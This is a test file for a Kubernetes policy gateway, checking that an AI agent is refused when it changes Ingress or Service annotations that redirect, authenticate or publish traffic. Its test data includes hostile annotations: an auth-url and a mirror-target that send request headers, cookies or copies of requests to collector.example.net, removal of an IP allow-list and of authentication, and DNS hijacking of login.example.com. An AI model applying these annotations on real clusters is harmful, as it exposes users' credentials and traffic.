// An Ingress's annotations are its ingress controller's configuration for the hosts it serves, and a
// Service's are its load balancer's and external-dns's: ingress-nginx's `auth-url` sends every request's
// headers (cookies, Authorization) to the URL it names, `mirror-target` copies every request there,
// `auth-tls-secret` reads another namespace's Secret, and removing `whitelist-source-range` or `auth-url`
// opens the host to everyone; external-dns's `hostname` points any name it lists at this Ingress or
// Service. Class 316 read an Ingress's hosts, paths and snippet annotations, and left every other
// annotation, on an Ingress another team owns, an ordinary write (docs/security.md class 358). Real
// kubectl and raw requests against the fake API server, an agent under the default policy.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultKubernetesPolicies } from '../src/policy/index.js';
import { hasCommand } from './testkit/commands.js';
import { startFakeKubeApi, type FakeKubeApi } from './testkit/kube-api.js';
import { startKubeTestGateway, type KubeTestGateway } from './testkit/kube-gateway.js';

const haveKubectl = hasCommand('kubectl');
const RULE = 'k8s-agents-no-traffic-redirects';

describe('annotations that route, authenticate or publish a host’s traffic', { timeout: 120_000 }, () => {
  let api: FakeKubeApi;
  let gw: KubeTestGateway;
  let agent: string;

  beforeAll(async () => {
    api = await startFakeKubeApi({ moreGroups: true });
    gw = await startKubeTestGateway({ api, policies: defaultKubernetesPolicies(['prod-k8s']) });
    agent = await gw.token({ subject: 'claude', agent: true });
  });

  afterAll(async () => {
    await gw?.stop();
    await api?.close();
  });

  const writes = () => api.seen.filter((s) => s.method !== 'GET').length;

  async function refusedKubectl(args: string[]): Promise<string> {
    const stderr = await gw.refusedKubectl(agent, args);
    expect(stderr).toContain(RULE);
    return stderr;
  }

  async function refusedRaw(method: string, target: string, body: unknown, type: string): Promise<string> {
    const first = await gw.refusedSend(agent, method, target, JSON.stringify(body), type);
    expect(first.status).toBe(403);
    expect(first.body).toContain(RULE);
    return first.body;
  }

  async function heldAsOrdinary(send: () => Promise<unknown>): Promise<void> {
    const pending = send();
    const held = await gw.approver.next();
    expect(held.ctx.action.describe.categories).not.toContain('privilege');
    held.deny();
    await pending;
  }

  it.skipIf(!haveKubectl)(
    "an ingress controller's annotations on an existing Ingress, set or removed, are privilege",
    async () => {
      const before = writes();
      const auth = await refusedKubectl([
        'annotate',
        'ingress',
        'web',
        'nginx.ingress.kubernetes.io/auth-url=https://collector.example.net/auth',
      ]);
      expect(auth).toContain(
        'metadata.annotations.nginx.ingress.kubernetes.io/auth-url=https://collector.example.net/auth',
      );
      await refusedKubectl([
        'annotate',
        'ingress',
        'web',
        'nginx.ingress.kubernetes.io/mirror-target=https://collector.example.net$request_uri',
      ]);
      await refusedKubectl([
        'annotate',
        'ingress',
        'web',
        'nginx.ingress.kubernetes.io/auth-tls-secret=payments/client-ca',
      ]);
      await refusedKubectl([
        'annotate',
        'ingress',
        'web',
        'external-dns.alpha.kubernetes.io/hostname=login.example.com',
      ]);
      // Removing one takes away what it enforced (an allow-list of addresses, an authentication).
      // (kubectl annotate KEY- sends the removal only when the object has the key: the fake's objects are bare.)
      const removed = await refusedRaw(
        'PATCH',
        '/apis/networking.k8s.io/v1/namespaces/default/ingresses/web',
        { metadata: { annotations: { 'nginx.ingress.kubernetes.io/whitelist-source-range': null } } },
        'application/merge-patch+json',
      );
      expect(removed).toContain('nginx.ingress.kubernetes.io/whitelist-source-range removed');
      await refusedRaw(
        'PATCH',
        '/apis/networking.k8s.io/v1/namespaces/default/ingresses/web',
        [{ op: 'remove', path: '/metadata/annotations/nginx.ingress.kubernetes.io~1auth-url' }],
        'application/json-patch+json',
      );
      await refusedRaw(
        'PATCH',
        '/apis/networking.k8s.io/v1/namespaces/default/ingresses/web',
        [
          {
            op: 'add',
            path: '/metadata/annotations',
            value: { 'traefik.ingress.kubernetes.io/router.middlewares': 'infra-forward-auth@kubernetescrd' },
          },
        ],
        'application/json-patch+json',
      );
      expect(writes()).toBe(before);
      // A label, and an annotation of no controller's (no prefix, or kubectl's own), stay ordinary writes.
      await heldAsOrdinary(() => gw.kubectl(agent, ['label', 'ingress', 'web', 'team=payments']));
      await heldAsOrdinary(() => gw.kubectl(agent, ['annotate', 'ingress', 'web', 'owner=payments']));
      await heldAsOrdinary(() =>
        gw.kubectl(agent, ['annotate', 'ingress', 'web', 'kubernetes.io/change-cause=rollout']),
      );
    },
  );

  it("a Service's load balancer and external-dns annotations are privilege; others stay ordinary", async () => {
    const before = writes();
    const dns = await refusedRaw(
      'PATCH',
      '/api/v1/namespaces/default/services/web',
      { metadata: { annotations: { 'external-dns.alpha.kubernetes.io/hostname': 'login.example.com' } } },
      'application/merge-patch+json',
    );
    expect(dns).toContain('metadata.annotations.external-dns.alpha.kubernetes.io/hostname=login.example.com');
    await refusedRaw(
      'PATCH',
      '/api/v1/namespaces/default/services/web',
      { metadata: { annotations: { 'service.beta.kubernetes.io/aws-load-balancer-internal': null } } },
      'application/strategic-merge-patch+json',
    );
    await refusedRaw(
      'PATCH',
      '/api/v1/namespaces/default/services/web',
      [
        {
          op: 'add',
          path: '/metadata/annotations/metallb.universe.tf~1loadBalancerIPs',
          value: '10.96.0.10',
        },
      ],
      'application/json-patch+json',
    );
    expect(writes()).toBe(before);
    await heldAsOrdinary(() =>
      gw.send(
        agent,
        'PATCH',
        '/api/v1/namespaces/default/services/web',
        JSON.stringify({ metadata: { annotations: { 'prometheus.io/scrape': 'true' } } }),
        'application/merge-patch+json',
      ),
    );
  });
});
